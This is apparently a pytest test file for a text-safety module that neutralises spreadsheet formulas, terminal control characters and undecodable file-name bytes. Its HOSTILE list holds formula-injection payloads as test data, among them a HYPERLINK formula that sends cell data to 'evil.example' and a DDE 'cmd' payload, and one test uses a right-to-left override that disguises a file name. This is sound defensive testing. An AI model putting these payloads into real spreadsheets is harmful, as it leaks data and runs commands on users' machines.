"""Text from data made safe for terminals and spreadsheets."""

from __future__ import annotations

import pytest

from desktop_app.core.wording.text_safety import (
    has_control,
    limit_length,
    replace_control,
    spreadsheet_safe,
    spreadsheet_unescape,
    strip_control,
    terminal_safe,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\tstarts with tab",
    "\rstarts with CR",
    "'=already quoted",
    "''+twice",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_cells_are_neutralised_and_round_trip(cell: str) -> None:
    safe = spreadsheet_safe(cell)
    assert safe.startswith("'")
    assert not has_control(safe)
    assert spreadsheet_unescape(safe) == replace_control(cell)


@pytest.mark.parametrize("cell", ["-0.125", "1e-05", "+3", "0.15193818", "ISIC_0000002.jpg",
                                  "/data/a.jpg", "", "'plain apostrophe", "ok"])
def test_numbers_and_plain_text_stay_as_they_are(cell: str) -> None:
    assert spreadsheet_safe(cell) == cell
    assert spreadsheet_unescape(cell) == cell


def test_control_characters() -> None:
    text = "a\x1b[31mred\x1b[0m\nb\u202egpj.exe\x9b\x00"
    assert strip_control(text) == "a[31mred[0mbgpj.exe"
    assert replace_control("a\nb") == "a\ufffdb"
    shown = terminal_safe(text)
    assert not has_control(shown)
    assert "\\x1b[31m" in shown and "\\n" in shown and "\\u202e" in shown
    assert terminal_safe("Müller, José 病变.jpg") == "Müller, José 病变.jpg"
    assert terminal_safe(42) == "42"


def test_limit_length() -> None:
    assert limit_length("abc", 3) == "abc"
    assert limit_length("abcdef", 4) == "abc\u2026"
    with pytest.raises(ValueError):
        limit_length("abc", 0)


# Issue 24: file names whose bytes are not UTF-8 (surrogateescape), one rule everywhere.
UNDECODABLE = [
    (b"bad\xffname.jpg", "bad\\xffname.jpg"),  # Latin-1 byte from an old archive
    (b"J\xe9r\xf4me.jpg", "J\\xe9r\\xf4me.jpg"),
    ("Zoë.jpg".encode(), "Zoë.jpg"),  # valid UTF-8 stays as it is
    (b"\xc3\xa9\xff.png", "é\\xff.png"),  # valid and invalid bytes side by side
]


@pytest.mark.parametrize(("raw", "shown"), UNDECODABLE)
def test_undecodable_bytes_are_escaped_by_one_rule(raw: bytes, shown: str) -> None:
    import os

    from desktop_app.core.wording.text_safety import display_text, undecodable_escaped

    name = os.fsdecode(raw)  # what os.listdir gives Python for these bytes
    assert undecodable_escaped(name) == shown
    assert undecodable_escaped(raw) == shown  # bytes, as os.fsencode'd paths are
    # Every writer's function applies it, so none can raise on a UTF-8 stream.
    for safe in (terminal_safe(name), spreadsheet_safe(name), replace_control(name),
                 strip_control(name), display_text(name)):
        assert safe == shown
        safe.encode("utf-8")


def test_undecodable_names_decode_the_same_under_a_c_locale() -> None:
    """A C locale (ASCII + surrogateescape) turns each non-ASCII byte into a surrogate:
    the rule gives the same text as under a UTF-8 locale."""
    from pathlib import Path

    from desktop_app.core.wording.text_safety import undecodable_escaped

    c_locale_name = b"Zo\xc3\xabbad\xff.jpg".decode("ascii", "surrogateescape")
    assert undecodable_escaped(Path("/a") / c_locale_name) == "/a/Zoëbad\\xff.jpg"
    # A lone surrogate no decoder made (typed, or from JSON) is shown by its code point.
    assert undecodable_escaped("a\ud800b") == "a\\ud800b"
